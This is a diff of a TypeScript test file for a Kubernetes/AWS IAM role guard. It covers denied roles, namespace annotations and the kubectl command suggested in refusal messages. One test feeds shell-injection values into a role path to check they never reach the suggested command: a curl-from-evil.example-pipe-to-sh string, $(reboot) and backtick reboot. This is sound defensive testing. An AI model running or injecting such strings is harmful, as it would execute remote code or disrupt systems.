@@ -1,5 +1,10 @@
 import { describe, expect, it } from 'vitest';
-import { createGuard, type RolePolicy, roleArnOf } from '../../../lambda/decide/guard.ts';
+import {
+  type Asker,
+  createGuard,
+  type RolePolicy,
+  roleArnOf,
+} from '../../../lambda/decide/guard.ts';
 import type { ObservedNamespace } from '../../../lambda/observe/cluster-view.ts';
 import { aNamespace, aPolicy, BASE_ROLE_ARN, listing } from '../../support/builders.ts';
 
@@ -12,7 +17,7 @@ function judge(
   policy: Parameters<typeof aPolicy>[0] = {},
 ) {
   const guard = createGuard(aPolicy(policy), listing([aNamespace('shop', annotations)]));
-  return guard('shop', role);
+  return guard('shop', BASE_ROLE_ARN + role, 'pod');
 }
 
 describe('the stack', () => {
@@ -21,6 +26,13 @@ describe('the stack', () => {
       assumableRoles: [`${BASE_ROLE_ARN}app-*`],
     });
     expect(verdict).toMatchObject({ kind: 'refused', reason: 'role-not-assumable' });
+  });
+
+  it('refuses a denied role in any case of its letters', () => {
+    const verdict = judge({ [ALLOWED]: '["*"]' }, 'CDK-hnb659fds-deploy', {
+      deniedRoles: ['arn:aws:iam::*:role/cdk-*'],
+    });
+    expect(verdict).toMatchObject({ kind: 'refused', reason: 'role-denied' });
   });
 
   it('refuses a denied role although everything else allows it', () => {
@@ -49,6 +61,38 @@ describe('a namespace without annotation', () => {
       ),
     });
   });
+});
+
+describe('a role that its name alone does not tell', () => {
+  const ELSEWHERE = 'arn:aws-cn:iam::999999999999:role/team/orders';
+
+  function refused(roleArn: string) {
+    const policy = aPolicy({ assumableRoles: ['arn:*'] });
+    return createGuard(policy, listing([aNamespace('shop', {})]))('shop', roleArn, 'awsIamRole');
+  }
+
+  it('is named by its path below the base in the command that would allow it', () => {
+    const command = `kubectl annotate namespace shop 'iam.amazonaws.com/allowed-roles=["team/orders"]'`;
+    expect(refused(`${BASE_ROLE_ARN}team/orders`)).toMatchObject({
+      message: expect.stringContaining(command),
+    });
+  });
+
+  it('is named by its ARN elsewhere', () => {
+    expect(refused(ELSEWHERE)).toMatchObject({
+      message: expect.stringContaining(`=["${ELSEWHERE}"]'`),
+    });
+  });
+
+  it.each(["'; curl evil.example|sh #", '$(reboot)', '`reboot`', '"', '\\'])(
+    'is not in that command when its path has %j, which a shell might take otherwise',
+    (path) => {
+      const verdict = refused(`${BASE_ROLE_ARN}${path}/orders`);
+      expect(verdict).toMatchObject({ reason: 'namespace-not-annotated' });
+      const [, command = ''] = JSON.stringify(verdict).split('to allow this one: ');
+      expect(command).toMatch(/^kubectl edit namespace shop, and set/);
+    },
+  );
 });
 
 describe('annotations', () => {
@@ -136,16 +180,21 @@ describe('annotations', () => {
 describe('a namespace', () => {
   it('that is being deleted is judged like any other, and known for it', () => {
     const guard = createGuard(aPolicy(), listing([{ ...aNamespace(), terminating: true }]));
-    expect(guard('shop', 'orders')).toMatchObject({ kind: 'allowed', isTerminating: true });
+    expect(guard('shop', `${BASE_ROLE_ARN}orders`, 'pod')).toMatchObject({
+      kind: 'allowed',
+      isTerminating: true,
+    });
   });
 
   it('that was not seen is not judged', () => {
-    expect(createGuard(aPolicy(), listing([]))('shop', 'orders').kind).toBe('unknown');
+    expect(createGuard(aPolicy(), listing([]))('shop', `${BASE_ROLE_ARN}orders`, 'pod').kind).toBe(
+      'unknown',
+    );
   });
 
   it('that was not seen does not matter in mode off', () => {
     const guard = createGuard(aPolicy({ namespaceRestrictions: 'off' }), listing([]));
-    expect(guard('shop', 'orders').kind).toBe('allowed');
+    expect(guard('shop', `${BASE_ROLE_ARN}orders`, 'pod').kind).toBe('allowed');
   });
 });
 
@@ -157,9 +206,12 @@ describe("the forwarder's own role", () => {
     where: string,
     namespaces: readonly ObservedNamespace[],
     policy: Partial<RolePolicy> = {},
+    asker: Asker = 'pod',
   ) {
     const all = { forwarderRoleArn: `${BASE_ROLE_ARN}forwarder-prod`, ...policy };
-    return createGuard(aPolicy(all), listing(namespaces))(where, 'forwarder-prod');
+    const whole = aPolicy(all);
+    const roleArn = roleArnOf(whole, where, 'forwarder-prod');
+    return createGuard(whole, listing(namespaces))(where, roleArn, asker);
   }
 
   it.each<[string, readonly ObservedNamespace[], Partial<RolePolicy>]>([
@@ -199,16 +251,36 @@ describe("the forwarder's own role", () => {
     },
   );
 
+  it('is refused to an AWSIAMRole, at home too', () => {
+    for (const where of ['shop', HOME]) {
+      const verdict = judgeForwarder(where, [aNamespace(where)], {}, 'awsIamRole');
+      expect(verdict).toMatchObject({ kind: 'refused', reason: 'role-denied' });
+    }
+  });
+
+  it('is refused to an AWSIAMRole that writes it in another case', () => {
+    const policy = aPolicy({ forwarderRoleArn: `${BASE_ROLE_ARN}forwarder-prod` });
+    const guard = createGuard(policy, listing([aNamespace(HOME)]));
+    const verdict = guard(HOME, `${BASE_ROLE_ARN}Forwarder-Prod`, 'awsIamRole');
+    expect(verdict).toMatchObject({ kind: 'refused', reason: 'role-denied' });
+  });
+
   it("leaves the product's namespace under the rules of all others for any other role", () => {
     const policy = aPolicy({ forwarderRoleArn: `${BASE_ROLE_ARN}forwarder-prod` });
     const guard = createGuard(policy, listing([aNamespace(HOME, {})]));
-    expect(guard(HOME, 'orders')).toMatchObject({ reason: 'namespace-not-annotated' });
-    expect(guard(HOME, 'forwarder')).toMatchObject({ reason: 'namespace-not-annotated' });
+    expect(guard(HOME, `${BASE_ROLE_ARN}orders`, 'pod')).toMatchObject({
+      reason: 'namespace-not-annotated',
+    });
+    expect(guard(HOME, `${BASE_ROLE_ARN}forwarder`, 'pod')).toMatchObject({
+      reason: 'namespace-not-annotated',
+    });
   });
 
   it("is nobody's when the forwarder has its credentials from elsewhere", () => {
     const guard = createGuard(aPolicy(), listing([aNamespace(HOME, {})]));
-    expect(guard(HOME, 'forwarder-prod')).toMatchObject({ reason: 'namespace-not-annotated' });
+    expect(guard(HOME, `${BASE_ROLE_ARN}forwarder-prod`, 'pod')).toMatchObject({
+      reason: 'namespace-not-annotated',
+    });
   });
 
   it('is meant by its name at home only, where its path is not that of other roles', () => {
